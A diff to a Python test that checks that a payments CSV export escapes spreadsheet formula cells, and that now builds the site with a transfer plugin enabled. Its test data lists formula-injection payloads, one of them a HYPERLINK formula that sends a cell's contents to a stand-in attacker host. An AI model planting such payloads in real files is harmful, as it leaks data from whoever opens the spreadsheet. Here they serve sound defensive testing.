@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import csv
 import io
+from collections.abc import Callable
 
 import httpx
 
@@ -21,7 +22,11 @@ from tests.web.conftest import new_proforma
 ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3", "@SUM(A1)"]
 
 
-def test_formula_cells_are_escaped_in_the_payments_export(site: Site) -> None:
+def test_formula_cells_are_escaped_in_the_payments_export(
+    site_factory: Callable[..., Site],
+) -> None:
+    # Recording a payment by hand needs a manual method enabled: the transfer plugin's.
+    site = site_factory(plugins=("transfer",))
     admin = new_staff(site.ctx, "admin")
     with site.ctx.db.transaction() as session:
         row = session.get(StaffUser, admin.id)
